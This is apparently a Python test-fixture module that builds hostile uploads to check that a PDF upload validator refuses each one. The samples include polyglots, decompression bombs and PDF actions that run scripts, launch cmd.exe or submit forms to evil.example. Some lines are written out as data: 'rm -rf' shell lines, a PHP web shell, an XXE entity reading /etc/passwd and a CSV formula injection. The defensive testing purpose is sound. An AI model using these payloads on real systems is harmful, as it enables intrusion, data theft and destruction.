"""Files that attackers upload: several hundred, made by families from a few ideas.

Each is refused with a flaw of its family. Where `None` is among the flaws it may pass: a parser
mends it, and nothing is in it that acts.
"""

import io
import random
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import pikepdf
from pikepdf import Array, Dictionary, Name, Object, Pdf, String

from registration.documents.rules import Flaw
from tests.documents.making import plain, raw, saved

BROKEN = frozenset({Flaw.BROKEN, Flaw.BOMB})
SCRIPT, LAUNCH = frozenset({Flaw.SCRIPT}), frozenset({Flaw.LAUNCH})
INSIDE = frozenset({Flaw.ATTACHMENT})
TWO = frozenset({Flaw.TWO_IN_ONE})
NOT_PDF = frozenset({Flaw.NOT_PDF})
ANY = frozenset(Flaw)
HARMLESS = frozenset({*Flaw, None})  # a parser mends it, and nothing in it acts


@dataclass(frozen=True)
class Hostile:
    """One file, and the flaws that refuse it."""

    name: str
    content: bytes
    flaws: frozenset[Flaw | None]


def everything() -> list[Hostile]:
    """The whole collection; the same files at every call."""
    families = (
        _wrong_types,
        _polyglots,
        _truncated,
        _acts,
        _embedded,
        _encrypted,
        _bombs,
        _nested,
        _loops,
        _outside,
        _numbers,
    )
    return [Hostile(*each) for family in families for each in family()]


Made = Iterator[tuple[str, bytes, frozenset[Flaw | None]]]


def _archive(name: str = "payload.js", size: int = 8) -> bytes:
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, "a" * size)
    return into.getvalue()


def _wrong_types() -> Made:
    starts = {
        "jpeg": b"\xff\xd8\xff\xe0\x00\x10JFIF",
        "png": b"\x89PNG\r\n\x1a\n",
        "gif": b"GIF89a",
        "tiff": b"II*\x00",
        "webp": b"RIFF\x10\x00\x00\x00WEBP",
        "windows program": b"MZ\x90\x00",
        "linux program": b"\x7fELF\x02\x01\x01",
        "mac program": b"\xcf\xfa\xed\xfe",
        "java class": b"\xca\xfe\xba\xbe",
        "shell script": b"#!/bin/sh\nrm -rf /\n",
        "python script": b"import os\n",
        "postscript": b"%!PS-Adobe-3.0\n",
        "encapsulated postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n",
        "rich text": b"{\\rtf1\\ansi",
        "old office": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        "page": b"<!doctype html><script>alert(1)</script>",
        "xml": b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>",
        "drawing": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "gzip": b"\x1f\x8b\x08\x00",
        "bzip2": b"BZh91AY&SY",
        "xz": b"\xfd7zXZ\x00",
        "rar": b"Rar!\x1a\x07\x00",
        "seven zip": b"7z\xbc\xaf\x27\x1c",
        "cabinet": b"MSCF\x00\x00\x00\x00",
        "shortcut": b"L\x00\x00\x00\x01\x14\x02\x00",
        "compressed pages": b"ITSF\x03\x00\x00\x00",
        "mail": b"From: a@b.example\r\nSubject: x\r\n\r\n",
        "film": b"\x00\x00\x00\x18ftypmp42",
        "sound": b"ID3\x03\x00",
        "flash": b"CWS\x0a",
        "database": b"SQLite format 3\x00",
        "font": b"\x00\x01\x00\x00\x00\x10",
        "certificate": b"-----BEGIN CERTIFICATE-----\n",
        "calendar": b"BEGIN:VCALENDAR\r\n",
        "csv": b"a;b;c\r\n=cmd|' /C calc'!A0;;\r\n",
        "byte order mark": b"\xef\xbb\xbf" + plain(),
        "a space in front": b" " + plain(),
        "a line in front": b"\r\n" + plain(),
        "another version's mark": b"%FDF-1.2\n" + plain(),
        "the mark in small letters": plain().replace(b"%PDF-", b"%pdf-", 1),
    }
    for name, start in starts.items():
        yield f"wrong type: {name}", start + b"x" * 200, NOT_PDF
    yield "wrong type: archive", _archive(), NOT_PDF
    yield "wrong type: document of an office", _archive("word/document.xml"), NOT_PDF
    yield "wrong type: archive that unpacks without end", _archive("a", 30_000_000), NOT_PDF
    yield "empty", b"", frozenset({Flaw.EMPTY})
    yield "too big", plain() + b"\n" * (20 * 2**20), frozenset({Flaw.TOO_BIG})


def _polyglots() -> Made:
    body = plain()
    begun = b"%PDF-1.4\n"
    for name, front in {
        "page": b"<html><script>alert(1)</script></html>",
        "page in capitals": b"<HTML><BODY onload=alert(1)>",
        "script": b"<script src=//evil.example></script>",
        "drawing": b"<svg onload=alert(1)>",
        "frame": b"<iframe src=//evil.example>",
        "declared page": b"<!DOCTYPE html>",
        "spaced tag": b"< script >alert(1)</ script>",
        "shell": b"#!/bin/sh\nrm -rf ~\n",
    }.items():
        yield f"polyglot: {name} in front", begun + front + b"\n" + body, TWO
    for name, behind in {
        "archive": _archive(),
        "java archive": _archive("META-INF/MANIFEST.MF"),
        "old rar": b"Rar!\x1a\x07\x00" + bytes(50),
        "new rar": b"Rar!\x1a\x07\x01\x00" + bytes(50),
        "seven zip": b"7z\xbc\xaf\x27\x1c" + bytes(50),
        "php": b"<?php system($_GET['c']); ?>",
        "second file": b"\n" + body,
        "page": b"\n<html><script>alert(1)</script>",
        "program": b"MZ\x90\x00" + bytes(200),
        "words": b"\nand a few words more",
        "photograph": b"\xff\xd8\xff\xe0" + bytes(100),
    }.items():
        yield f"polyglot: {name} behind", body + behind, TWO
    yield "polyglot: php within a comment", begun + b"%<?php echo 1; ?>\n" + body, TWO
    tape = bytearray(begun + b"%" + b" " * 600 + b"\n" + body)
    tape[257:262] = b"ustar"
    yield "polyglot: tape", bytes(tape), TWO
    disc = bytearray(begun + b"%" + b" " * 33_000 + b"\n" + body)
    disc[32_769:32_774] = b"CD001"
    yield "polyglot: disc", bytes(disc), TWO
    scan = bytearray(begun + b"%" + b" " * 300 + b"\n" + body)
    scan[128:132] = b"DICM"
    yield "polyglot: medical picture", bytes(scan), TWO
    commented = _archive()
    yield (
        "polyglot: archive with the file as its comment",
        body + commented[:-2] + b"\x05\x00abcde",
        TWO,
    )


def _truncated() -> Made:
    """A file is cut where nothing can be read from what is left, or its parts are overwritten."""
    yield "cut: the mark alone", b"%PDF-1.7\n", BROKEN
    yield "cut: the mark and an end", b"%PDF-1.7\n%%EOF\n", BROKEN
    body = plain(30)
    for share in (3, 5, 8, 10, 15, 20, 25, 30):
        yield f"cut: after {share} %", body[: len(body) * share // 100], BROKEN
    packed = saved(_pages(30), object_stream_mode=pikepdf.ObjectStreamMode.generate)
    for share in (10, 20, 30, 40, 50, 60):
        yield f"cut: packed, after {share} %", packed[: len(packed) * share // 100], BROKEN
    chance = random.Random(17)
    for number in range(30):
        noise = bytes(chance.randrange(256) for _ in range(200 + 50 * number))
        yield f"noise: {number}", b"%PDF-1.7\n" + noise + b"\n%%EOF\n", BROKEN | TWO
    for name, old, new in (
        ("no pages", b"/Pages", b"/Seite"),
        ("no root", b"/Root", b"/Rute"),
    ):
        damaged = plain().replace(old, new)
        yield f"damaged: {name}", damaged, BROKEN
    yield "damaged: no page at all", saved(pikepdf.new()), BROKEN


def _pages(number: int) -> Pdf:
    pdf = pikepdf.new()
    for _ in range(number):
        pdf.add_blank_page()
    return pdf


Change = Callable[[Pdf, Object], None]


def _places() -> dict[str, Change]:
    """Where an act can hang."""

    def at_opening(pdf: Pdf, act: Object) -> None:
        pdf.Root.OpenAction = act

    def at_printing(pdf: Pdf, act: Object) -> None:
        pdf.Root.AA = Dictionary(WP=act)

    def at_turning(pdf: Pdf, act: Object) -> None:
        pdf.pages[0].obj.AA = Dictionary(O=act)

    def at_a_link(pdf: Pdf, act: Object) -> None:
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=act)
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])

    def at_a_direct_link(pdf: Pdf, act: Object) -> None:
        pdf.pages[0].obj.Annots = Array(
            [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=act)]
        )

    def at_a_field(pdf: Pdf, act: Object) -> None:
        field = Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("a"),
            Rect=Array([0, 0, 9, 9]),
            AA=Dictionary(K=act),
        )
        field = pdf.make_indirect(field)
        pdf.pages[0].obj.Annots = Array([field])
        pdf.Root.AcroForm = Dictionary(Fields=Array([field]))

    def at_a_bookmark(pdf: Pdf, act: Object) -> None:
        mark = pdf.make_indirect(Dictionary(Title=String("a"), A=act))
        pdf.Root.Outlines = pdf.make_indirect(Dictionary(First=mark, Last=mark, Count=1))

    def behind_another(pdf: Pdf, act: Object) -> None:
        pdf.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([]), Next=Array([act]))

    return {
        "at opening": at_opening,
        "at printing": at_printing,
        "at turning a page": at_turning,
        "at a link": at_a_link,
        "at a direct link": at_a_direct_link,
        "at a field": at_a_field,
        "at a bookmark": at_a_bookmark,
        "behind another": behind_another,
    }


def _acts() -> Made:
    evil = String("https://evil.example/")
    acts = {
        "script": (Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")), SCRIPT),
        "script without its name": (Dictionary(JS=String("app.alert(1)")), SCRIPT),
        "sending a form": (Dictionary(S=Name.SubmitForm, F=evil), SCRIPT),
        "taking values in": (Dictionary(S=Name.ImportData, F=evil), SCRIPT),
        "playing": (Dictionary(S=Name.Rendition, OP=0), SCRIPT),
        "script as an address": (
            Dictionary(S=Name.URI, URI=String("javascript:alert(1)")),
            SCRIPT,
        ),
        "file as an address": (Dictionary(S=Name.URI, URI=String("file:///etc/passwd")), SCRIPT),
        "words as an address": (
            Dictionary(S=Name.URI, URI=String("DATA:text/html,hello")),
            SCRIPT,
        ),
        "program": (Dictionary(S=Name.Launch, F=String("cmd.exe")), LAUNCH),
        "another file": (
            Dictionary(S=Name.GoToR, F=String("//evil.example/a"), D=Array([0])),
            LAUNCH,
        ),
        "a file inside": (Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C)), LAUNCH),
        "a thread elsewhere": (Dictionary(S=Name.Thread, F=String("a.pdf"), D=0), LAUNCH),
    }
    for act_name, (act, flaws) in acts.items():
        for place, hang in _places().items():
            with pikepdf.new() as pdf:
                pdf.add_blank_page()
                hang(pdf, pdf.copy_foreign(act) if act.is_indirect else act)
                yield f"act: {act_name} {place}", saved(pdf), flaws
    for place, hang in _places().items():
        with pikepdf.new() as pdf:
            pdf.add_blank_page()
            hang(pdf, Dictionary(S=Name.JavaScript, JS=pdf.make_stream(b"app.alert(1)")))
            streams = pikepdf.ObjectStreamMode.generate
            yield f"act: packed script {place}", saved(pdf, object_stream_mode=streams), SCRIPT


def _embedded() -> Made:
    for name, payload in {
        "payload.exe": b"MZ",
        "a.pdf": plain(),
        "a.docm": _archive("vba"),
        "a.txt": b"words",
        "invoice.xml": b"<a/>",
    }.items():
        with _pages(1) as pdf:
            pdf.attachments[name] = payload
            yield f"embedded: {name}", saved(pdf), INSIDE
            streams = pikepdf.ObjectStreamMode.generate
            yield f"embedded, packed: {name}", saved(pdf, object_stream_mode=streams), INSIDE
    for kind in ("FileAttachment", "RichMedia", "Movie", "Sound", "Screen", "3D"):
        with _pages(1) as pdf:
            pinned = Dictionary(Type=Name.Annot, Subtype=Name(f"/{kind}"), Rect=Array([0, 0, 9, 9]))
            pdf.pages[0].obj.Annots = Array([pdf.make_indirect(pinned)])
            yield f"embedded: {kind} on a page", saved(pdf), INSIDE
    with _pages(1) as pdf:
        pdf.Root.Collection = Dictionary(Type=Name.Collection)
        yield "embedded: a portfolio", saved(pdf), INSIDE
    for name, entry in {"stream": None, "words": String("<xdp/>")}.items():
        with _pages(1) as pdf:
            form = pdf.make_stream(b"<xdp/>") if entry is None else entry
            pdf.Root.AcroForm = Dictionary(XFA=form, Fields=Array([]))
            yield f"embedded: a form of scripts as {name}", saved(pdf), SCRIPT
    with _pages(1) as pdf:
        picture = pdf.make_stream(b"showpage", Type=Name.XObject, Subtype=Name.PS)
        pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(A=picture))
        yield "embedded: postscript", saved(pdf), SCRIPT


def _encrypted() -> Made:
    for revision in (2, 3, 4, 6):
        modern = revision >= 4
        for name, words in {
            "to open": {"user": "secret", "owner": "secret"},
            "to change": {"user": "", "owner": "secret"},
            "empty": {"user": "", "owner": ""},
        }.items():
            how = pikepdf.Encryption(**words, R=revision, aes=modern, metadata=modern)
            yield (
                f"encrypted: {name}, revision {revision}",
                saved(_pages(1), encryption=how),
                frozenset({Flaw.ENCRYPTED}),
            )


def _bombs() -> Made:
    zeros = zlib.compress(bytes(300 * 2**20), 9)
    twice = zlib.compress(zeros, 9)
    for name, packed, filters in (
        ("packed once", zeros, [Name.FlateDecode]),
        ("packed twice", twice, [Name.FlateDecode, Name.FlateDecode]),
    ):
        for place in ("contents", "picture", "nothing"):
            with _pages(1) as pdf:
                stream = pikepdf.Stream(pdf, packed)
                stream.Filter = Array(filters)
                _lay(pdf, stream, place)
                yield f"bomb: {name}, {place}", saved(pdf, compress_streams=False), BROKEN
    runs = b"\x81\x00" * (3 * 2**20) + b"\x80"
    with _pages(1) as pdf:
        stream = pikepdf.Stream(pdf, runs)
        stream.Filter = Name.RunLengthDecode
        _lay(pdf, stream, "contents")
        yield "bomb: runs", saved(pdf, compress_streams=False), BROKEN
    many = zlib.compress(bytes(200 * 2**20), 9)
    with _pages(1) as pdf:
        for _ in range(14):
            stream = pikepdf.Stream(pdf, many)
            stream.Filter = Name.FlateDecode
            pdf.make_indirect(stream)
            pdf.Root[f"/A{_}"] = stream
        yield "bomb: many", saved(pdf, compress_streams=False), BROKEN
    for width, height in ((60_000, 60_000), (10**9, 1), (2**31 - 1, 2**31 - 1), (1, 10**9)):
        for kind in ("FlateDecode", "DCTDecode", "JPXDecode", "CCITTFaxDecode"):
            with _pages(1) as pdf:
                stream = pikepdf.Stream(pdf, zlib.compress(bytes(100)))
                stream.Filter = Name(f"/{kind}")
                stream.Type, stream.Subtype = Name.XObject, Name.Image
                stream.Width, stream.Height = width, height
                stream.ColorSpace, stream.BitsPerComponent = Name.DeviceRGB, 8
                _lay(pdf, stream, "picture")
                yield f"bomb: picture of {width} by {height}, {kind}", saved(pdf), BROKEN
    for box in ((0, 0, 10**6, 10**6), (0, 0, 20_000, 10), (0, 0, 1e30, 1e30), (0, 0, 0, 0)):
        with _pages(1) as pdf:
            pdf.pages[0].obj.MediaBox = Array(box)
            yield f"bomb: a page of {box[2]:g} by {box[3]:g}", saved(pdf), BROKEN
    for number in (201, 400, 1_000):
        yield f"bomb: {number} pages", plain(number), frozenset({Flaw.TOO_LONG})


def _lay(pdf: Pdf, stream: pikepdf.Stream, place: str) -> None:
    page = pdf.pages[0].obj
    if place == "contents":
        page.Contents = pdf.make_indirect(stream)
    elif place == "picture":
        page.Resources = Dictionary(XObject=Dictionary(A=pdf.make_indirect(stream)))
        page.Contents = pdf.make_stream(b"/A Do")
    else:
        pdf.Root.Nothing = pdf.make_indirect(stream)


def _nested() -> Made:
    for depth in (100, 500, 2_000, 50_000, 200_000):
        for opening, closing in ((b"[", b"]"), (b"<</A", b">>")):
            inner = opening * depth + (b" 1 " if closing != b"]" else b"") + closing * depth
            yield (
                f"nested: {depth} times {opening.decode()}",
                raw({1: b"<</Type/Catalog/Pages 2 0 R/A " + inner + b">>"}),
                BROKEN,
            )


def _loops() -> Made:
    def catalogue(pages: bytes, page: bytes, **more: bytes) -> bytes:
        objects = {1: b"<</Type/Catalog/Pages 2 0 R>>", 2: pages, 3: page}
        return raw({**objects, **{int(key[1:]): value for key, value in more.items()}})

    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
    yield "loop: pages in pages", catalogue(b"<</Type/Pages/Kids[2 0 R]/Count 1>>", page), BROKEN
    yield (
        "loop: two in each other",
        catalogue(
            b"<</Type/Pages/Kids[4 0 R]/Count 1>>",
            page,
            o4=b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 1>>",
        ),
        BROKEN,
    )
    yield "loop: pages of itself", raw({1: b"<</Type/Catalog/Pages 1 0 R>>"}), BROKEN
    fan = {1: b"<</Type/Catalog/Pages 2 0 R>>"}
    for level in range(2, 22):
        kids = b" ".join(b"%d 0 R" % (level + 1) for _ in range(10))
        fan[level] = b"<</Type/Pages/Kids[%s]/Count 1000000000>>" % kids
    fan[22] = b"<</Type/Page/Parent 21 0 R/MediaBox[0 0 9 9]>>"
    yield "loop: the same page without number", raw(fan), ANY
    for length in (b"4 0 R", b"3 0 R", b"-1", b"99999999999999999999"):
        streamed = {
            1: b"<</Type/Catalog/Pages 2 0 R/JavaScript 3 0 R>>",
            2: b"<</Type/Pages/Kids[]/Count 0>>",
            3: b"<</Length " + length + b">>stream\nabc\nendstream",
            4: b"4 0 R",
        }
        yield f"loop: a length of {length.decode()}", raw(streamed), ANY
    body = plain()
    start = body.rindex(b"startxref")
    for name, table in {
        "itself": b"xref\n0 1\n0000000000 65535 f \ntrailer\n<</Size 4/Prev %d>>\n" % start,
        "no number": b"trailer\n<</Prev (a)>>\n",
        "beyond the end": b"xref\n0 99999999\n",
    }.items():
        looped = body[:start] + table + b"startxref\n%d\n%%%%EOF\n" % start
        yield f"loop: a table before {name}", looped, HARMLESS


def _outside() -> Made:
    with _pages(1) as pdf:
        stream = pdf.make_stream(b"", F=Dictionary(Type=Name.Filespec, F=String("/etc/passwd")))
        pdf.pages[0].obj.Contents = stream
        yield "outside: contents in another file", saved(pdf), LAUNCH
    with _pages(1) as pdf:
        stream = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Form)
        stream.Ref = Dictionary(F=String("//evil.example/a.pdf"), Page=0)
        _lay(pdf, stream, "picture")
        yield "outside: a page of another file", saved(pdf), LAUNCH
    with _pages(1) as pdf:
        stream = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Image)
        stream.OPI = Dictionary({"/2.0": Dictionary(F=String("a.tif"))})
        _lay(pdf, stream, "picture")
        yield "outside: a picture to be fetched", saved(pdf), LAUNCH
    for name, spec in {
        "file": Dictionary(Type=Name.Filespec, F=String("//evil.example/a")),
        "address": Dictionary(Type=Name.Filespec, FS=Name.URL, F=String("https://evil.example")),
    }.items():
        with _pages(1) as pdf:
            pdf.Root.Elsewhere = pdf.make_indirect(spec)
            yield f"outside: a {name} named", saved(pdf), LAUNCH


def _numbers() -> Made:
    """A script whose file is damaged in many ways: readers differ in how they mend it."""
    chance = random.Random(4)
    scripted = next(each for name, each, _ in _acts() if name == "act: script at opening")
    for number in range(40):
        turned = bytearray(scripted)
        for _ in range(3 + number):
            at = chance.randrange(9, len(turned))
            turned[at] = chance.randrange(256)
        if b"/JS" in turned or b"/JavaScript" in turned:
            yield f"turned: {number}", bytes(turned), ANY
